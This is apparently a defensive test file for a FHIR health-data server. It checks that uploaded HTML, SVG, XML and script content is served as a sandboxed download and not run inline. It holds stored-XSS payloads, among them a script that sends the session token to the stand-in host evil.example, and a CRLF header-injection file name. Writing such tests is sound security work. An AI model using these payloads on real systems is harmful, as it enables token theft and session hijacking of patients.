// Item 14 (active Binary content): a patient could upload HTML or SVG with a script and send
// anyone the link; opened in a browser it ran as a page of the server's origin. Content a
// browser would run (HTML, SVG, XML, scripts, any type not known to be passive) is now served
// as a download (Content-Disposition: attachment), typed as stored, never sniffed, and
// sandboxed should it be opened anyway. Passive types (PDF, images, plain text) still show inline.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends, createAccount, startTestServer, type TestAccount, type TestServer } from '../test/test-server';
import { fhirAs, type RawResponse } from '../test/attacker';

const SCRIPT = '<script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script>';
const ACTIVE: [contentType: string, body: string][] = [
  ['text/html', `<html><body>${SCRIPT}</body></html>`],
  ['TEXT/HTML; charset=utf-8', `<html>${SCRIPT}</html>`],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`],
  ['application/xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`],
  ['text/xml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
  ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
  ['text/javascript', 'alert(document.cookie)'],
  ['application/x-never-heard-of', `<html>${SCRIPT}</html>`],
];

describe.each(backends())('active Binary content (%s)', (backend) => {
  let server: TestServer;
  let patient: TestAccount;

  beforeAll(async () => {
    server = await startTestServer(backend);
    patient = await createAccount(server, 'Patient');
  }, 120_000);
  afterAll(() => server?.destroy());

  const upload = async (contentType: string, body: string, query = '') => {
    const res = await fhirAs(server, patient.token)('POST', `Binary${query}`, body, { 'Content-Type': contentType });
    expect(res.status).toBe(201);
    return res.body.id as string;
  };
  const download = (path: string) => fhirAs(server, patient.token)('GET', path, undefined, { Accept: '*/*' });
  const expectDownload = (res: RawResponse, contentType: string) => {
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment\b/);
    expect(res.headers.get('content-type')).toBe(contentType);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toBe('sandbox');
  };

  describe('when a patient uploads content a browser would run', () => {
    it('serves HTML, SVG, XML, scripts and unknown types as a download, at the resource and at each version', async () => {
      for (const [contentType, body] of ACTIVE) {
        const id = await upload(contentType, body);
        const current = await download(`Binary/${id}`);
        expectDownload(current, contentType);
        expect(current.text).toBe(body);
        expectDownload(await download(`Binary/${id}/_history/1`), contentType);
      }
    });

    it('serves a Binary sent as FHIR JSON the same way', async () => {
      const created = await fhirAs(server, patient.token)('POST', 'Binary', {
        resourceType: 'Binary',
        contentType: 'image/svg+xml',
        data: Buffer.from(ACTIVE[2][1]).toString('base64'),
      });
      expect(created.status).toBe(201);
      expectDownload(await download(`Binary/${created.body.id}`), 'image/svg+xml');
    });

    it('keeps a hostile file name from breaking out of the header', async () => {
      const name = 'report".html\r\nSet-Cookie: session=stolen';
      const id = await upload('text/html', ACTIVE[0][1], `?_filename=${encodeURIComponent(name)}`);
      const res = await download(`Binary/${id}`);
      expectDownload(res, 'text/html');
      expect(res.headers.get('content-disposition')).toBe(
        'attachment; filename="report_.html__Set-Cookie: session=stolen"'
      );
      expect(res.headers.get('set-cookie')).toBeNull();
    });
  });

  describe('when a patient uploads passive content', () => {
    it('shows PDF, images and plain text inline', async () => {
      for (const contentType of ['application/pdf', 'image/png', 'text/plain']) {
        const id = await upload(contentType, 'bytes');
        const res = await download(`Binary/${id}`);
        expect(res.headers.get('content-disposition')).toBe('inline');
        expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      }
    });
  });
});
